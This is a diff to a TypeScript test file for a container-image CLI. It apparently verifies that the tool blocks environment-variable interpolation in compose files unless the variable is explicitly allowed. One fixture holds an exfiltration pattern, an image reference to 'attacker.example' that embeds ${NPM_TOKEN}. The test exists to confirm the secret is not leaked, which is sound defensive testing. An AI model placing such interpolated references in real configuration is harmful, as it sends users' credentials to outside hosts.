@@ -8,6 +8,9 @@ import { describe, expect, it } from 'vitest';
 import { findImages } from '../../src/core/manifests/files.js';
 import { GateError } from '../../src/core/errors.js';
 import { parseComposeEnv } from '../../src/core/options.js';
+import { parseCommand } from '../../src/cli/args.js';
+import { runImages } from '../../src/cli/images.js';
+import { runPin } from '../../src/cli/pin.js';
 
 const SECRET = 'npm_s3cr3tT0k3nVALUE';
 
@@ -133,5 +136,45 @@ describe('compose-env', () => {
     expect(() => parseComposeEnv('compose-env', ['TAG', '1BAD'])).toThrow(
       "compose-env: '1BAD' is not an environment variable name",
     );
+  });
+
+  it('reaches every command that reads files: verify, images, pin and pin --check', async () => {
+    const v = parseCommand([
+      'verify',
+      '--key',
+      'k.pub',
+      '--compose-env',
+      'A,B',
+      '--from',
+      'c.yaml',
+    ]);
+    expect(v.command === 'verify' && v.options.composeEnv).toEqual(['A', 'B']);
+    const i = parseCommand(['images', '--compose-env', 'A', '--compose-env', 'B', 'c.yaml']);
+    expect(i.command === 'images' && i.composeEnv).toEqual(['A', 'B']);
+    const c = parseCommand(['pin', '--check', '--compose-env', 'TAG', 'c.yaml']);
+    expect(c.command === 'pin' && c.composeEnv).toEqual(['TAG']);
+    const p = parseCommand(['pin', '--key', 'k.pub', '--compose-env', 'TAG', 'c.yaml']);
+    expect(p.command === 'pin' && !p.check && [p.composeEnv, p.options.composeEnv]).toEqual([
+      ['TAG'],
+      undefined,
+    ]);
+
+    const file = await project('services:\n  web:\n    image: attacker.example/x:${NPM_TOKEN}\n');
+    const out: string[] = [];
+    const io = { stdout: (s: string) => out.push(s), stderr: (s: string) => out.push(s) };
+    const env = { NPM_TOKEN: SECRET };
+    const images = parseCommand(['images', file]);
+    if (images.command !== 'images') throw new Error('not images');
+    expect(await runImages(images, { ...io, env })).toBe(2);
+    const check = parseCommand(['pin', '--check', file]);
+    if (check.command !== 'pin') throw new Error('not pin');
+    expect(await runPin(check, { ...io, env })).toBe(2);
+    expect(out.join('')).toContain('reads NPM_TOKEN from the environment');
+    expect(out.join('')).not.toContain(SECRET);
+    out.length = 0;
+    const allowed = parseCommand(['images', '--compose-env', 'NPM_TOKEN', file]);
+    if (allowed.command !== 'images') throw new Error('not images');
+    expect(await runImages(allowed, { ...io, env: { NPM_TOKEN: 'v1' } })).toBe(0);
+    expect(out.join('')).toContain('attacker.example/x:v1');
   });
 });
